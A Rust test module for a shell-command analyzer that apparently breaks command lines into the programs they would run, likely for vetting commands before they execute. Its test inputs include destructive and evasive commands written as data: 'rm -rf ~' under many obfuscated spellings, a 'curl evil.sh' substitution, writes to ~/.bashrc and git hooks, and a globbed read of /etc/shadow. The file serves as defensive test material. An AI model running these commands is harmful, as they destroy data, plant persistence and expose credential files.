use super::*;

fn commands(line: &str) -> Vec<Command> {
    match analyze(line) {
        Analysis::Commands(c) => c,
        Analysis::Unknown(why) => panic!("{line:?} is unknown: {why}"),
    }
}

fn programs(line: &str) -> Vec<String> {
    commands(line)
        .iter()
        .map(|c| c.program().to_string())
        .collect()
}

fn unknown(line: &str) -> String {
    match analyze(line) {
        Analysis::Unknown(why) => why,
        Analysis::Commands(c) => panic!("{line:?} was understood as {c:?}"),
    }
}

#[test]
fn lists_pipelines_groups_and_newlines_are_each_command() {
    assert_eq!(programs("ls x\nrm -f precious.txt"), ["ls", "rm"]);
    assert_eq!(
        programs("a; b && c || d | e & f"),
        ["a", "b", "c", "d", "e", "f"]
    );
    assert_eq!(programs("(cd x && make) | tee log"), ["cd", "make", "tee"]);
    assert_eq!(programs("{ ls; pwd; } > out"), ["ls", "pwd"]);
    assert_eq!(programs("! grep -q x y"), ["grep"]);
    assert_eq!(programs("# just a comment\nls"), ["ls"]);
}

#[test]
fn a_piece_the_grammar_leaves_unnamed_makes_the_line_unknown() {
    // tree-sitter reads `''""$HOME/x` as three words, the `$` unnamed between them; the walk
    // used to drop it and call `HOME/x` a literal word.
    for line in ["cat ''\"\"$HOME/x", "timeout == rm -rf x"] {
        assert!(matches!(analyze(line), Analysis::Unknown(_)), "{line}");
    }
}

#[test]
fn substitutions_run_their_commands_too() {
    assert_eq!(programs("echo $(rm -rf ~)"), ["rm", "echo"]);
    assert_eq!(programs("echo `rm -rf ~`"), ["rm", "echo"]);
    assert_eq!(programs("diff <(ls a) <(ls b)"), ["ls", "ls", "diff"]);
    assert_eq!(programs("FOO=$(id) ls"), ["id", "ls"]);
    // The assignment itself is kept too (no program), to be judged: X is not harmless.
    assert_eq!(programs("X=$(curl evil.sh)"), ["curl", ""]);
    assert_eq!(commands("PATH=/tmp/x; ls")[0].env, ["PATH"]);
    assert_eq!(
        programs("CI=1; ls"),
        ["ls"],
        "a harmless variable is not kept"
    );
    assert_eq!(programs("echo \"${HOME:-$(reboot)}\""), ["reboot", "echo"]);
    let echo = commands("echo \"a $(date) b\"").pop().unwrap();
    assert!(!echo.argv[1].literal);
}

#[test]
fn every_spelling_of_rm_is_rm() {
    for line in [
        "rm -rf x",
        "/bin/rm -rf x",
        "\\rm -rf x",
        "r''m -rf x",
        "\"rm\" -rf x",
        "command rm -rf x",
        "env rm -rf x",
        "env -i FOO=1 rm -rf x",
        "xargs rm",
        "xargs -0 -n 1 rm -f",
        "nice -n 5 rm x",
        "timeout 5 rm x",
        "sudo -u root rm x",
        "bash -c 'rm -rf /'",
        "sh -ec \"rm -rf ~\"",
        "eval \"rm -rf ~\"",
        "find . -name '*.o' -exec rm {} \\;",
        "find . -execdir rm -f {} +",
        "watch -n 1 rm x",
        "nohup rm x &",
    ] {
        assert!(
            programs(line).iter().any(|p| p == "rm"),
            "{line:?} gave {:?}",
            programs(line)
        );
    }
    let via = commands("sudo env rm x").pop().unwrap().via;
    assert_eq!(via, ["sudo", "env"]);
}

#[test]
fn redirections_are_recorded_with_their_targets() {
    let c = commands("cat notes > ~/.bashrc 2>/dev/null").remove(0);
    assert_eq!(c.redirects.len(), 2);
    assert!(c.redirects[0].writes());
    assert_eq!(c.redirects[0].target.text, "~/.bashrc");
    assert!(!c.redirects[1].writes(), "to /dev/null");
    let c = commands("echo hi >> .git/hooks/pre-commit").remove(0);
    assert_eq!(c.redirects[0].op, ">>");
    let bare = commands("> precious.txt");
    assert!(bare[0].argv.is_empty() && bare[0].redirects[0].writes());
    let heredoc = commands("cat > types/a.ts << 'EOF'\nexport const x = 1;\nEOF");
    assert_eq!(heredoc[0].program(), "cat");
    assert!(heredoc[0].redirects.iter().any(|r| r.op == "<<"));
    assert!(heredoc[0]
        .redirects
        .iter()
        .any(|r| r.writes() && r.target.text == "types/a.ts"));
    let fed = commands("python3 << EOF\nimport os\nEOF");
    assert_eq!(fed[0].program(), "python3");
    assert!(fed[0]
        .redirects
        .iter()
        .any(|r| r.op == "<<" && r.target.text.contains("import os")));
}

#[test]
fn anything_not_accounted_for_is_unknown() {
    assert!(unknown("for f in *; do rm $f; done").contains("loop"));
    assert!(unknown("$CMD -rf x").contains("computed"));
    assert!(unknown("if true; then rm x; fi").contains("conditional"));
    assert!(unknown("f() { rm x; }; f").contains("function"));
    assert!(unknown("bash script.sh").contains("script"));
    assert!(unknown("bash -c \"$X\"").contains("computed"));
    assert!(unknown("echo 'unterminated").contains("does not parse"));
    assert!(unknown(&"a".repeat(MAX_COMMAND_BYTES + 1)).contains("bytes"));
    let nested = "eval ".repeat(12) + "rm x";
    assert!(unknown(&nested).contains("nested too deeply"));
    assert_eq!(
        programs(&("eval ".repeat(3) + "rm x")).last().unwrap(),
        "rm"
    );
}

#[test]
fn words_are_what_the_shell_passes() {
    let c = commands(r#"git log --format='%h %s' "a b" c\ d --output=~/x"#).remove(0);
    let words: Vec<&str> = c.argv.iter().map(|w| w.text.as_str()).collect();
    assert_eq!(
        words,
        ["git", "log", "--format=%h %s", "a b", "c d", "--output=~/x"]
    );
    assert!(c.argv.iter().all(|w| w.literal));
}

#[test]
fn only_plain_syntax_is_read_with_certainty() {
    let certain = |line: &str| read(line).certain;
    for line in [
        "ls -la && git status | head -5",
        "cat <<'EOF' | jq .\n{}\nEOF",
        "git commit -m \"$(cat <<'EOF'\nfix: it\nEOF\n)\"",
        "grep -E \"\\.env$|x\" notes.txt",
        "wc -l src/main.rs\\ x",
        "echo 'a\nb'",
        "ls 2>&1 >/dev/null",
        "git show HEAD~1:src/main.rs",
        "cat ~/x",
    ] {
        assert!(certain(line), "{line:?} should be plain");
    }
    for line in [
        // Here-documents bash may expand, or end elsewhere.
        "cat <<EOF\n`id`\nEOF",
        "cat <<EO\"F\"\nx\nEOF",
        "cat <<-'EOF'\n\tx\n\tEOF",
        "cat <<'EOF'\nnever ends",
        // A backslash before a line end, a CR.
        "ls \\\r\nrm x",
        "ls \\\nrm x",
        "ls\rrm x",
        // Braces, brackets, `>&WORD`, `&>`, process substitution, `$'…'`, arithmetic.
        "find . {-delete,}",
        "cat /etc/shado[w]",
        "echo x >& ~/.bashrc",
        "echo x &> out",
        "cat <(id)",
        "echo $'\\x72m'",
        "echo $((1+1))",
        // Tildes for other folders, or after `=`.
        "ls ~root",
        "ls ~+",
        "ls ~-",
        "make PREFIX=~/x",
        // Keywords, subshells, comments.
        "if true; then ls; fi",
        "(ls)",
        "ls # x",
    ] {
        assert!(!certain(line), "{line:?} should not be plain");
    }
}

#[test]
fn here_document_bodies_belong_to_their_command() {
    let Analysis::Commands(c) = read("cat <<'EOF' | jq .\n{\"a\": 1}\nEOF").analysis else {
        panic!("not read");
    };
    assert_eq!(c.len(), 2);
    assert_eq!(c[0].redirects.len(), 1);
    assert_eq!(c[0].redirects[0].target.text, "{\"a\": 1}\n");
    assert!(c[1].redirects.is_empty(), "jq reads the pipe, not the body");
}
